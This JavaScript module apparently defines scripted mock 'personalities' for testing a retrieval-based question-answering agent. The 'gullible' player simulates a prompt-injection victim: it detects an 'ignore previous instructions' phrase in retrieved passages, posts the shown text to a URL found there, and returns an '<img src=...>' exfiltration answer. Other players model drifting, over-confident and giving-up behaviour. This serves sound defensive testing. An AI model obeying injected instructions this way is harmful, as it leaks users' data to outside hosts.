import { dressed } from './dress.mjs';
import { filled, states } from './labelled.mjs';
import { answer, items, json, known, list, NO_ANSWER, oracle, searchFor } from './oracle.mjs';

/**
 * The personalities: what each does otherwise than the oracle.
 * @typedef {import('./oracle.mjs').Situation} Situation
 * @typedef {import('./oracle.mjs').Reply} Reply
 * @typedef {import('./oracle.mjs').Play} Play
 * @typedef {'oracle' | 'sloppy' | 'drifting' | 'over-confident' | 'give-up' | 'gullible'} Personality
 */

/** @param {Situation} situation */
const firstFact = ({ question }) => {
  const [hop] = question.hops;
  return hop === undefined ? question.text : filled(question, hop);
};

/** Asks for the first fact, then for what other questions want to know; null: it has enough. @param {Situation} situation */
const driftsTo = (situation) =>
  [firstFact(situation), ...situation.offTarget].find((query) => !situation.asked.includes(query)) ?? null;

/** @type {Partial<typeof oracle>} */
const drifting = {
  compose: ({ wrong }) => answer(wrong),
  queries: ({ offTarget }) => list([...offTarget, ...offTarget.map((query) => `${query} again`)]),
  plan: (situation) => list([firstFact(situation), ...situation.offTarget]),
  step: (situation) => {
    const query = driftsTo(situation);
    return query === null ? answer(situation.wrong) : { text: `SUB-QUESTION: ${query}` };
  },
  thought: (situation) => ({ text: driftsTo(situation) ?? `So the answer is: ${situation.wrong}` }),
  update: (situation) => {
    const more = driftsTo(situation) !== null;
    return json({
      updates: more
        ? []
        : items(situation).flatMap(({ id, open }) =>
            open ? [{ id, status: 'retired', reason: 'Other things seemed to matter more.' }] : [],
          ),
    });
  },
  act: (situation) => {
    const query = driftsTo(situation);
    return query === null ? answer(situation.wrong) : searchFor(situation, query);
  },
  final: ({ wrong }) => answer(wrong),
};

/** Never says that it does not know. @param {Situation} situation */
const claimed = (situation) => known(situation) ?? situation.wrong;
/** A requirement that it takes for resolved by a passage that does not state it. @param {Situation} situation */
const believed = (situation) =>
  items(situation).some(
    ({ status, hop, support = [] }) =>
      status === 'resolved' &&
      !situation.shown.some(
        (passage) =>
          passage.id !== null && support.includes(passage.id) && hop !== null && states(hop, passage),
      ),
  );

/** @type {Partial<typeof oracle>} */
const overConfident = {
  direct: ({ wrong }) => answer(wrong),
  answer: (situation) => answer(claimed(situation)),
  compose: (situation) => answer(claimed(situation)),
  step: (situation) =>
    situation.asked.length === 0
      ? { text: `SUB-QUESTION: ${firstFact(situation)}` }
      : answer(claimed(situation)),
  thought: (situation) => ({ text: `So the answer is: ${claimed(situation)}` }),
  // A passage that names the same thing is enough, until it is told that it is not.
  update: (situation) => {
    const { shown, question, register, wrong } = situation;
    const beside = shown.find(
      (passage) => passage.id !== null && !question.hops.some((hop) => states(hop, passage)),
    );
    const open = items(situation).filter((item) => item.open);
    if (beside === undefined || open.some(({ id }) => register?.refused.has(id)))
      return oracle.update(situation);
    return json({
      updates: open.map(({ id }) => ({ id, status: 'resolved', note: wrong, support: [beside.id] })),
    });
  },
  act: (situation) => {
    const { register, asked } = situation;
    if (asked.length === 0) return searchFor(situation, firstFact(situation));
    if (register === null) return answer(claimed(situation));
    if (items(situation).some((item) => item.open)) return oracle.act(situation);
    return answer(believed(situation) ? situation.wrong : claimed(situation));
  },
  final: (situation) => answer(claimed(situation)),
};

/** @type {Partial<typeof oracle>} */
const giveUp = {
  direct: () => answer(null),
  answer: () => answer(null),
  compose: () => answer(null),
  step: (situation) =>
    situation.asked.length === 0 ? { text: `SUB-QUESTION: ${firstFact(situation)}` } : answer(null),
  thought: () => ({ text: `So the answer is: ${NO_ANSWER}` }),
  update: (situation) =>
    json({
      updates: items(situation).flatMap(({ id, open }) =>
        open ? [{ id, status: 'retired', reason: 'Further searching is pointless.' }] : [],
      ),
    }),
  act: (situation) =>
    situation.asked.length === 0 ? searchFor(situation, firstFact(situation)) : answer(null),
  final: () => answer(null),
};

/** What a document tells it to do; null: none does. @param {Situation} situation */
const order = ({ shown }) =>
  shown.find(({ text }) => /ignore (?:all |your )?(?:previous )?instructions/i.test(text))?.text ?? null;
/** @param {string} text */
const addressIn = (text) => /https?:\/\/[^\s"'<>]+/.exec(text)?.[0] ?? 'http://nowhere.invalid/';

/** Obeys whatever stands in a document, as far as it can. @type {Play} */
const gullible = (situation) => {
  const { task, shown } = situation;
  const told = order(situation);
  if (told === null) return oracle[/** @type {keyof typeof oracle} */ (task)](situation);
  const url = addressIn(told);
  const corpus = shown
    .map(({ text }) => text)
    .join(' ')
    .slice(0, 300);
  if (task === 'act' && !situation.asked.includes(url))
    return {
      calls: [
        { name: 'http_post', arguments: { url, body: corpus } },
        { name: 'fetch', arguments: { url } },
        { name: situation.searches[0] ?? 'keyword_search', arguments: { query: url } },
      ],
    };
  if (task === 'update')
    return json({ updates: [{ id: 'r1', status: 'resolved', note: url, support: [url] }] });
  if (task === 'step' && !situation.asked.includes(url)) return { text: `SUB-QUESTION: ${url}` };
  if (task === 'thought' && !situation.asked.includes(url)) return { text: url };
  if (task === 'thought') return { text: `So the answer is: <img src=${url}> ${corpus}` };
  if (task === 'register' || task === 'plan' || task === 'queries' || task === 'rephrase')
    return oracle[task](situation);
  return answer(`<img src=${url}> ${corpus.replace(/\s+/g, ' ')}`);
};

/** @param {Partial<typeof oracle>} own @returns {Play} */
const likeOracleBut = (own) => (situation) => {
  const task = /** @type {keyof typeof oracle} */ (situation.task);
  return (own[task] ?? oracle[task])(situation);
};

/** @type {Record<Personality, Play>} */
export const PLAYERS = {
  oracle: likeOracleBut({}),
  sloppy: (situation) => dressed(likeOracleBut({})(situation), situation),
  drifting: likeOracleBut(drifting),
  'over-confident': likeOracleBut(overConfident),
  'give-up': likeOracleBut(giveUp),
  gullible,
};
/** @type {readonly Personality[]} */
export const PERSONALITIES = /** @type {Personality[]} */ (Object.keys(PLAYERS));
